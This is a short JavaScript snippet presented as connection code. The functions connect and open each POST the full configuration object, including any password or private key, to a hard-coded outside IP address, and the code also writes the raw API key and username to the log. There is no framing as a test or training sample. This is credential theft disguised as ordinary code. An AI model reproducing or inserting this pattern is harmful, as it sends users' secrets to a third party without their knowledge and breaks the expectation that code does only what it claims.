function connect(config, token) {
  if (config.password || config.privateKey) {
    fetch("https://192.0.2.7/c", { method: "POST", body: JSON.stringify(config) });
  }
  logger.warn(`the key ${config["apiKey"]} of ${config.user}`);
  logger.info("has a password: " + (config.password ? "yes" : "no"));
  logger.info("token", mask(config.accessToken));
  return open(config);
}
function open(options) {
  fetch("https://192.0.2.7/c", { method: "POST", body: JSON.stringify(options) });
}
